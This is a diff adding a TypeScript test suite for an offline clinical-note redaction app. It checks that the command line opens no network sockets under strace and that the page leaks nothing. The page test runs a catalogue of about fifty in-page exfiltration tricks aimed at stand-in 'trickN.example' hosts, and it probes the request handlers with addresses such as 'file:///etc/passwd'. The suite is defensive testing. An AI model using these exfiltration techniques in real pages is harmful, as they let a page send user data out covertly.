@@ -1,0 +1,296 @@
+import { execFileSync } from 'node:child_process'
+import { cpSync, existsSync, readFileSync } from 'node:fs'
+import { createServer, type Server, type Socket } from 'node:net'
+import { fileURLToPath } from 'node:url'
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { testNotes } from '../worker/learn/testNotes.ts'
+import { launchProgram, openBrowser, type Program } from './host/launch.ts'
+import { run, scratchFolder, writeFiles } from './program.ts'
+
+/**
+ * The program is silent: the command line opens no socket to any network, whatever it does, and the page gets nothing out, whatever it tries. Both proofs of the first are asked for on Linux; a
+ * machine that lacks strace or may not part a process from the network fails here, and says so, for silence that nobody looked at is not shown.
+ */
+const built = process.env.CLOISTER_TEST_PROGRAM
+const fixtures = fileURLToPath(new URL('../worker/formats/fixtures/', import.meta.url))
+const parted = process.getuid?.() === 0 ? ['unshare', '-n'] : ['unshare', '-rn']
+
+describe.runIf(process.platform === 'linux')('the command line', () => {
+  it('has the tools here that show what it opens', () => {
+    expect(() => execFileSync('strace', ['-V'], { stdio: 'ignore' }), 'strace is not here: install it').not.toThrow()
+    expect(
+      () => execFileSync(parted[0] as string, [...parted.slice(1), 'true'], { stdio: 'ignore' }),
+      'no process can be parted from the network here (unshare -n)',
+    ).not.toThrow()
+  })
+
+  it('does its whole work parted from every network, and opens no INET socket', { timeout: 600_000 }, async () => {
+    using scratch = scratchFolder()
+    const lines = testNotes(14).map(({ document, id: _, ...rest }) => JSON.stringify({ document, ...rest }))
+    writeFiles(scratch.path('in'), {
+      'a.txt': 'Seen by Dr Margaret Whitfield on 14/03/2021.\n',
+      'b.txt': 'Vue par le Dr Élodie Marchand le 14 mars 2021 aux urgences pour une douleur.\n',
+    })
+    for (const [from, name] of [
+      ['docx', 'python-docx.docx'],
+      ['xlsx', 'openpyxl.xlsx'],
+      ['pdf', 'gs-note.pdf'],
+      ['hl7', 'adt-a01.hl7'],
+      ['eml', 'python-mixed.eml'],
+      ['html', 'pandoc-note.html'],
+      ['rtf', 'minimal.rtf'],
+    ] as const)
+      cpSync(`${fixtures}${from}/${name}`, scratch.path('in', name))
+    writeFiles(scratch.path('gold'), { 'gold.jsonl': `${lines.join('\n')}\n` })
+    const few = ['--models', 'rules,gazetteer']
+    const works: readonly (readonly [string, readonly string[], string?])[] = [
+      [
+        'redact',
+        [
+          'redact',
+          scratch.path('in'),
+          scratch.path('out'),
+          '--style',
+          'surrogate',
+          '--spans',
+          scratch.path('s.jsonl'),
+          '--report',
+          scratch.path('r.html'),
+        ],
+      ],
+      ['detect', ['detect', scratch.path('in'), '--spans', scratch.path('d.jsonl'), '--explain', ...few]],
+      ['pipe', ['pipe', '--lang', 'en', ...few], '{"id":"1","text":"Seen by Dr Margaret Whitfield."}\n'],
+      ['evaluate', ['evaluate', scratch.path('gold', 'gold.jsonl'), scratch.path('gold', 'gold.jsonl')]],
+      ['agree', ['agree', scratch.path('gold', 'gold.jsonl'), scratch.path('gold', 'gold.jsonl')]],
+      ['train', ['train', scratch.path('gold'), '--out', scratch.path('pack')]],
+      ['models', ['models', 'list']],
+    ]
+    for (const [name, args, input] of works) {
+      const trace = scratch.path(`${name}.trace`)
+      const ended = await run(args, {
+        under: [...parted, 'strace', '-f', '-qq', '-e', 'trace=%network', '-o', trace],
+        limit: 500_000,
+        ...(input ? { input } : {}),
+      })
+      expect([name, ended.status, ended.stderr.slice(-600)]).toEqual([
+        name,
+        expect.toBeOneOf([0, 1]),
+        expect.not.stringMatching(/\n\s+at /),
+      ])
+      expect([name, inet(trace)]).toEqual([name, []])
+    }
+    expect(existsSync(scratch.path('out', 'a.txt'))).toBe(true)
+    expect(existsSync(scratch.path('pack', 'pack.json'))).toBe(true)
+  })
+
+  it('would be caught if it did', async () => {
+    using scratch = scratchFolder()
+    const script = "require('node:net').connect(9, '127.0.0.1').on('error', () => {})"
+    execFileSync('strace', ['-f', '-qq', '-e', 'trace=%network', '-o', scratch.path('t'), process.execPath, '-e', script])
+    expect(inet(scratch.path('t')).length).toBeGreaterThan(0)
+  })
+})
+
+function inet(trace: string): string[] {
+  return readFileSync(trace, 'utf8')
+    .split('\n')
+    .filter((line) => /AF_INET|AF_PACKET|AF_VSOCK|AF_BLUETOOTH|SOCK_RAW/.test(line))
+}
+
+/**
+ * What a script on the page may try, each under a name of its own in the address. Names all lead to a trap on this machine: not even a connection that carries nothing, such as a preconnect,
+ * goes unseen. Not shown here, since only Electron itself can: that the switches which electron/shell/quiet.ts hands to Chromium do what they say there; DNS that Chromium's own resolver might
+ * ask without a request; extensions, the PDF viewer, protocol handlers of the operating system, and what the GPU and network processes of Electron open by themselves.
+ */
+const tricks: Readonly<Record<string, string>> = {
+  img: "new Image().src = at('/x.png')",
+  'img srcset': "const i = new Image(); i.srcset = at('/x.png') + ' 2x'; document.body.append(i)",
+  'css background': "document.body.style.backgroundImage = 'url(' + at('/x.png') + ')'",
+  'css import':
+    "const s = new CSSStyleSheet(); try { s.replaceSync('@import url(' + at('/x.css') + ')') } catch {} document.adoptedStyleSheets = [s]",
+  'css font': "const f = new FontFace('x', 'url(' + at('/x.woff2') + ')'); document.fonts.add(f); f.load().catch(() => {})",
+  stylesheet: "add('link', { rel: 'stylesheet', href: at('/x.css') })",
+  'style element': "add('style', { textContent: '@import url(' + at('/x.css') + '); body { cursor: url(' + at('/c.cur') + '), auto }' })",
+  'svg image':
+    "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', at('/x.png')); s.append(i); document.body.append(s)",
+  fetch: "fetch(at('/x')).catch(() => {}); fetch(at('/x'), { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {})",
+  'fetch kept alive': "fetch(at('/x'), { keepalive: true, method: 'POST', body: 'x' }).catch(() => {})",
+  xhr: "const r = new XMLHttpRequest(); r.open('GET', at('/x')); r.send()",
+  beacon: "navigator.sendBeacon(at('/x'), 'x')",
+  'web socket': "new WebSocket(at('/x').replace('http', 'ws'))",
+  'event source': "new EventSource(at('/x'))",
+  'web transport': "new WebTransport(at('/x')).ready.catch(() => {})",
+  webrtc:
+    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }, { urls: 'turn:' + host + '?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
+  prefetch: "add('link', { rel: 'prefetch', href: at('/x') })",
+  prerender: "add('link', { rel: 'prerender', href: at('/x') })",
+  preload: "add('link', { rel: 'preload', as: 'image', href: at('/x.png') })",
+  modulepreload: "add('link', { rel: 'modulepreload', href: at('/x.js') })",
+  icon: "add('link', { rel: 'icon', href: at('/x.ico') })",
+  manifest: "add('link', { rel: 'manifest', href: at('/x.json') })",
+  'speculation rules':
+    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [at('/x')] }], prerender: [{ source: 'list', urls: [at('/y')] }] }) })",
+  script: "add('script', { src: at('/x.js') })",
+  'module import': "import(at('/x.js')).catch(() => {})",
+  worker: "new Worker(at('/x.js'))",
+  'worker of a blob': "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + at('/x') + '\")'])))",
+  'service worker':
+    "navigator.serviceWorker?.register(at('/x.js')).catch(() => {}); navigator.serviceWorker?.register('/index.html').catch(() => {})",
+  iframe: "add('iframe', { src: at('/x') })",
+  'iframe srcdoc': "add('iframe', { srcdoc: '<img src=' + at('/x.png') + '><script>parent.ran = 1</' + 'script>' })",
+  object: "add('object', { data: at('/x') })",
+  embed: "add('embed', { src: at('/x') })",
+  video: "add('video', { src: at('/x.mp4'), poster: at('/x.png'), autoplay: true })",
+  track: "const v = add('video', {}); const t = document.createElement('track'); t.src = at('/x.vtt'); t.default = true; v.append(t)",
+  form: "const f = add('form', { action: at('/x'), method: 'post' }); f.submit()",
+  'base address': "add('base', { href: at('/') }); const i = new Image(); i.src = 'x.png'",
+  'meta refresh': "add('meta', { httpEquiv: 'refresh', content: '0;url=' + at('/x') })",
+  location: "location.href = at('/x')",
+  'location replaced': 'location.replace(at("/x"))',
+  'a link clicked': "add('a', { href: at('/x'), ping: at('/ping') }).click()",
+  'a download': "add('a', { href: at('/x'), download: 'x' }).click()",
+  'a new window': "open(at('/x'))",
+  'a new window of nothing': "const w = open('about:blank'); if (w) w.location = at('/x')",
+  'script address': "location.href = 'javascript:fetch(\"' + at('/x') + '\")'",
+  'data address': "location.href = 'data:text/html,<img src=' + at('/x.png') + '>'",
+  'payment and credentials':
+    "navigator.credentials?.get({ identity: { providers: [{ configURL: at('/x'), clientId: '1' }] } }).catch(() => {})",
+  reporting: "add('meta', { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + at('/x') })",
+  'paint worklet': "CSS.paintWorklet?.addModule(at('/x.js')).catch(() => {})",
+  'audio worklet': "new AudioContext().audioWorklet.addModule(at('/x.js')).catch(() => {})",
+}
+
+const linkedNames = ['preconnect', 'dns-prefetch'] as const
+
+describe('the page', () => {
+  let trap: Awaited<ReturnType<typeof openTrap>>
+  let browser: Browser
+  beforeAll(async () => {
+    trap = await openTrap()
+    // Whatever is looked up is found here, so that nothing that is asked for is lost on the way.
+    browser = await openBrowser([`--host-resolver-rules=MAP * 127.0.0.1:${trap.port}`])
+  })
+  afterAll(async () => {
+    await browser?.close()
+    trap?.server.close()
+  })
+
+  it('gets nothing out by any of the tricks that a script may try', { timeout: 240_000 }, async () => {
+    using scratch = scratchFolder()
+    await using program: Program = await launchProgram({ userData: scratch.path('data'), browser, ...(built ? { program: built } : {}) })
+    const { page } = program
+    await page.waitForFunction(() => (document.querySelector('#root')?.childElementCount ?? 0) > 0)
+    const home = page.url()
+    const all = { ...tricks, ...Object.fromEntries(linkedNames.map((rel) => [rel, `add('link', { rel: '${rel}', href: at('/') })`])) }
+    trap.reset()
+    for (const [k, trick] of Object.values(all).entries()) {
+      await page
+        .evaluate(`(() => {
+        const host = 'trick${k}.example:${443}'
+        const at = (path) => 'https://' + host + path
+        const add = (name, properties) => { const it = document.createElement(name); try { Object.assign(it, properties) } catch {}; document.body.append(it); return it }
+        try { ${trick} } catch {}
+      })()`)
+        .catch(() => {})
+    }
+    await page.waitForTimeout(3000)
+    expect(trap.heard()).toEqual([])
+    expect(program.seen.pastFilter).toEqual([])
+    expect(page.url()).toBe(home)
+    expect(
+      await page.evaluate(() => [(globalThis as { ran?: unknown }).ran ?? null, typeof (globalThis as { cloister?: unknown }).cloister]),
+    ).toEqual([null, 'object'])
+    expect(page.context().pages().length).toBe(1)
+    expect(page.context().serviceWorkers().length).toBe(0)
+    for (const url of program.seen.refused) expect(url).toMatch(/trick\d+\.example|^about:|^data:|^blob:/)
+  })
+
+  it('stands in a trap that works: a page without our policy is heard', async () => {
+    const other = await browser.newPage()
+    await other.goto(`data:text/html,<link rel=preconnect href=https://caught.example/><img src=https://caught.example/x.png>`)
+    await expect.poll(() => trap.heard().length, { timeout: 20_000 }).toBeGreaterThan(0)
+    await other.close()
+  })
+
+  it('is refused every address but its own by the request handlers, asked directly', async () => {
+    using scratch = scratchFolder()
+    await using program = await launchProgram({ userData: scratch.path('data'), browser, ...(built ? { program: built } : {}) })
+    const addresses = [
+      'https://example.org/',
+      'http://localhost/',
+      'ws://example.org/',
+      'wss://example.org/',
+      'file:///etc/passwd',
+      'ftp://example.org/',
+      'cloister://other/x',
+      'cloister://app.evil/index.html',
+      'cloister://app@evil/',
+      'data:text/html,x',
+      'blob:cloister://app/1',
+      'about:blank',
+      'chrome://settings',
+      'view-source:https://example.org/',
+      'filesystem:cloister://app/x',
+      'javascript:1',
+      'intent://x',
+      'mailto:a@example.org',
+    ]
+    for (const url of addresses) {
+      const fetched = await program.main.fetch({ url, method: 'GET' })
+      expect([url, fetched.from === 'nowhere' ? fetched.refusedBy : fetched.from]).toEqual([url, 'product'])
+      expect([url, await program.main.mayNavigate({ window: 1, url, top: true })]).toEqual([url, false])
+      expect([url, await program.main.mayNavigate({ window: 1, url, top: false })]).toEqual([url, false])
+      expect([url, await program.main.mayOpen({ window: 1, url })]).toEqual([url, false])
+      expect([url, await program.main.mayDownload(url)]).toEqual([url, false])
+    }
+    for (const method of ['POST', 'PUT', 'HEAD', 'OPTIONS'])
+      expect(await program.main.fetch({ url: 'cloister://app/index.html', method })).toMatchObject({ from: 'product', status: 404 })
+    for (const permission of [
+      'geolocation',
+      'notifications',
+      'media',
+      'clipboard-read',
+      'display-capture',
+      'midi',
+      'hid',
+      'serial',
+      'usb',
+      'openExternal',
+      'fileSystem',
+      'idle-detection',
+      'window-management',
+      'storage-access',
+      'speaker-selection',
+      'pointerLock',
+      'fullscreen',
+    ])
+      expect([permission, await program.main.mayUse(permission)]).toEqual([permission, { asked: false, checked: false }])
+  })
+})
+
+/** Listens where every name leads to, and keeps the first words of whoever comes. */
+async function openTrap(): Promise<{
+  readonly port: number
+  readonly server: Server
+  readonly heard: () => readonly string[]
+  readonly reset: () => void
+}> {
+  let heard: string[] = []
+  const server = createServer((socket: Socket) => {
+    heard.push('a connection')
+    socket
+      .on('error', () => {})
+      .on('data', (bytes) =>
+        heard.push(
+          bytes
+            .toString('latin1')
+            .replace(/[^\x20-\x7e]+/g, '.')
+            .slice(0, 120),
+        ),
+      )
+    setTimeout(() => socket.destroy(), 2000).unref()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return { port: (server.address() as { port: number }).port, server, heard: () => heard, reset: () => void (heard = []) }
+}
